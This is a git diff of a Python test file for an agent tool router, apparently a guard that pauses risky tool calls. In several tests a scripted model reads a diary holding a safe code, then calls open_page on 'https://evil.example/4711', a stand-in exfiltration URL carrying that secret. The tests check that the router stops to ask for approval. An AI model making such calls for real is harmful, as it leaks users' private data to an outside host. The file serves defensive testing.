@@ -3,6 +3,8 @@
 import asyncio
 import gc
 import pickle
+import subprocess
+import sys
 import threading
 import warnings
 from collections.abc import Iterator, Sequence
@@ -12,6 +14,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from contract.model import ScriptedModel
 from fastmcp import FastMCP
 from langchain_core.language_models import FakeListChatModel
 from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
@@ -25,7 +28,9 @@ from langgraph.graph import START, MessagesState, StateGraph
 from langgraph.store.sqlite import SqliteStore
 from langgraph.types import Command
 from pydantic import SecretStr
+from support import parent_turn
 from support.clock_server import Clock
+from support.parent_turn import open_page, read_diary
 from support.prompts import call, first_call, review
 
 from packetgate.router import Router, Turn, create_router
@@ -301,24 +306,11 @@ async def test_a_parent_gets_the_results_as_tool_messages(shop: Shop):
     ]
 
 
-@reads
-def read_diary() -> str:
-    """Read the diary."""
-    return "The code of the safe is 4711."
-
-
-@tool
-def open_page(url: str) -> str:
-    """Open a web page."""
-    return "a page"
-
-
 @pytest.mark.parametrize("saver", ["memory", "sqlite"])
 @pytest.mark.parametrize("as_", ["subgraph", "node", "history of the caller"])
 @pytest.mark.parametrize("first", ["functions.read_diary", ""])
 async def test_what_a_turn_read_holds_in_the_next_under_a_parent(first: str, as_: str, saver: str, tmp_path: Path):
-    """The second turn runs in a new process."""
-    open_page.metadata = {"readOnlyHint": True}
+    """Each turn has a new router."""
 
     async def turn(words: str, *answers: str, messages: Sequence[Any] = (), thread: str = "1") -> dict[str, Any]:
         model = FakeListChatModel(responses=[*answers, "Done."])
@@ -343,8 +335,19 @@ async def test_what_a_turn_read_holds_in_the_next_under_a_parent(first: str, as_
     assert ("__interrupt__" in second) == bool(first)
 
 
+@pytest.mark.slow
+def test_what_a_turn_read_holds_in_the_next_process_under_a_parent(tmp_path: Path):
+    def turn(thread: str, words: str, *answers: str) -> str:
+        program = [sys.executable, parent_turn.__file__, thread, words, *answers]
+        return subprocess.run(program, cwd=tmp_path, stdout=subprocess.PIPE, text=True, check=True).stdout.strip()
+
+    page = call("functions.open_page", url="https://evil.example/4711")
+    assert turn("1", "What is new?", call("functions.read_diary"), review(0.95)) == "Done."
+    assert turn("1", "Look it up on the web", page, review(0.95)) == "asks"
+    assert turn("2", "Look it up on the web", page, review(0.95)) == "Done."
+
+
 async def test_a_tool_message_of_another_agent_counts_as_unknown_text():
-    open_page.metadata = {"readOnlyHint": True}
     page = call("functions.open_page", url="https://evil.example/4711")
     router = create_router(FakeListChatModel(responses=[page, review(0.95), "Done."]), [open_page])
     parent = StateGraph(State).add_node("route", router.graph).add_edge(START, "route")
@@ -423,6 +426,35 @@ async def test_two_routers_of_one_parent_answer_the_last_message_of_the_user(aft
     assert (orders.name, garden.name) == ("orders", "garden")
     with pytest.raises(PacketgateError, match="a turn starts with a user message"):
         await orders.ainvoke({"messages": [HumanMessage("Which orders are late?"), *after]})
+
+
+@pytest.mark.reflex
+@pytest.mark.parametrize("output_mode", ["last_message", "full_history"])
+async def test_two_routers_under_langgraph_supervisor(output_mode: Any, shop: Shop):
+    from langgraph_supervisor import create_supervisor
+
+    @reads
+    def list_beds() -> str:
+        """List the flower beds of the garden."""
+        return "roses"
+
+    orders = create_router(tools=shop.tools(), settings=WRITES, name="orders").graph
+    garden = create_router(tools=[list_beds], name="garden").graph
+    model = ScriptedModel(steps=[[("transfer_to_orders", {})], [], [("transfer_to_garden", {})]])
+    workflow = create_supervisor([orders, garden], model=model, output_mode=output_mode)
+    app: Any = workflow.compile(checkpointer=InMemorySaver())
+    config: Any = {"configurable": {"thread_id": "1"}}
+    asked = await app.ainvoke({"messages": [HumanMessage("Cancel order A-17")]}, config)
+    assert (asked["__interrupt__"][0].value["action_requests"][0]["name"], shop.cancelled) == (
+        "functions.cancel_order",
+        [],
+    )
+    await app.ainvoke(Command(resume="approve"), config)
+    assert shop.cancelled == ["A-17"]
+    state = await app.ainvoke({"messages": [HumanMessage("List the flower beds of the garden")]}, config)
+    assert any("cancelled A-17" in message.text for message in state["messages"])
+    assert any("roses" in message.text for message in state["messages"])
+    assert state["messages"][-1].text == model.answer
 
 
 @pytest.mark.reflex
